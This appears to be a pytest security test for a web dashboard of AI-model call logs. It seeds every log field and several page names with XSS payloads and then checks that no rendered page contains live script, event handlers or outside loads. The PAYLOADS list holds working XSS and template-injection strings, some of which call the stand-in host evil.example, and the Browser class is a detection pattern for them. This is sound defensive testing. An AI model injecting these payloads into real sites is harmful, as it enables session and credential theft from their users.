"""Stored XSS: hostile words in every field of a log, and what a browser would make of every page that shows it."""

from html.parser import HTMLParser

import pytest

from accounts.models import Bot, Project
from logs.saved.models import SavedView
from logs.tests.factories import make_log

PAYLOADS = [
    "<script>alert(1)</script>",
    "</pre></code></textarea></title></template><script src=//evil.example></script>",
    '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "<iframe src=javascript:alert(1)></iframe><base href=//evil.example><meta http-equiv=refresh content=0>",
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) ![c](https://evil.example/c.png)",
    "<a href='java\tscript:alert(1)'>x</a> <https://evil.example/?\"onmouseover=alert(1)>",
    "{{ 7*7 }}{% load x %}${7*7}<form action=//evil.example><input name=password>",
]
LOADING = {"src", "href", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
FORBIDDEN = {"iframe", "object", "embed", "base", "style", "frame", "applet", "marquee"}


class Browser(HTMLParser):
    """Notes what would run or be fetched from somewhere else without a click."""

    def __init__(self):
        super().__init__()
        self.dangers = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        self.dangers += [f"<{tag}>" for _ in [0] if tag in FORBIDDEN]
        self.dangers += [f"{tag} {name}" for name in values if name.startswith("on") or name == "style"]
        if tag == "script" and not (values.get("src") or "").startswith("/static/"):
            self.dangers.append("script")
        if tag == "meta" and "http-equiv" in values:
            self.dangers.append("meta refresh")
        for name in LOADING & set(values):
            address = "".join((values[name] or "").split()).lower()
            is_link = (tag, name) == ("a", "href")
            if address.startswith(("javascript:", "vbscript:", "data:text")) or (
                not is_link and address.startswith(("http:", "https:", "//"))
            ):
                self.dangers.append(f"{tag} {name}={address[:60]}")


def dangers_of(html):
    browser = Browser()
    browser.feed(html)
    browser.close()
    return browser.dangers


def hostile(payload):
    message = {"role": payload, "name": payload, "content": payload}
    call = {"id": payload, "type": "function", "function": {"name": payload, "arguments": payload}}
    picture = {"type": "image_url", "image_url": {"url": "https://evil.example/pixel.png"}}
    return {
        "input_messages": [message, {"role": "user", "content": [picture, {"type": "text", "text": payload}]}],
        "output_message": {"role": "assistant", "content": payload, "tool_calls": [call], "reasoning": payload},
        "model": payload,
        "provider": payload,
        "customer_id": payload,
        "thread_id": payload,
        "bot_id": payload,
        "channel": payload,
        "feature": payload,
        "prompt_name": payload,
        "custom_id": payload,
        "error_message": payload,
        "error_type": payload,
        "metadata": {payload: payload},
        "tools": [{"type": "function", "function": {"name": payload, "description": payload}}],
        "status_code": 500,
        "latency_ms": 10.0,
    }


TABS = ("", "?tab=raw", "?tab=tools", "?tab=cost", "?tab=timing", "?tab=metadata", "?tab=answers")
PAGES = ("/logs/", "/customers/", "/models/", "/prompts/", "/features/", "/bots/", "/threads/", "/charts/", "/views/")
MORE = ("/dashboards/", "/exports/", "/logs/overview/", "/logs/facets/", "/settings/bots/", "/settings/project/")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_page_makes_more_of_a_log_than_text(browser, project, owner, payload):
    Project.objects.filter(pk=project.pk).update(name=payload)
    Bot.objects.create(project=project, name=payload)
    SavedView.objects.create(project_id=project.pk, name=payload[:60], q=payload)
    log = make_log(project, **hostile(payload))
    one = f"/logs/{log.public_id}/"
    pages = [*PAGES, *MORE, *(one + tab for tab in TABS), f"/compare/?a={log.public_id}&b={log.public_id}"]
    found, shown = {}, 0
    for page in (*pages, f"{one}drawer/"):
        answer = browser.get(page)
        assert answer.status_code in (200, 302), page
        html = answer.content.decode()
        shown += "evil.example" in html or "alert(1)" in html or "7*7" in html
        if dangers := dangers_of(html):
            found[page] = dangers
    assert found == {}
    assert shown >= 8


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nor_does_a_page_of_the_address(browser, project, payload):
    for page, name in (("/logs/", "q"), ("/compare/", "a"), ("/threads/", "q"), ("/customers/", "q")):
        answer = browser.get(page, {name: payload, "sort": payload, "since": payload})
        assert answer.status_code in (200, 400, 404)
        assert dangers_of(answer.content.decode()) == []


def test_the_parser_sees_what_it_should():
    assert dangers_of("<p onclick=x><a href='java\nscript:x'><img src=//e.example><script>1</script>") == [
        "p onclick",
        "a href=javascript:x",
        "img src=//e.example",
        "script",
    ]
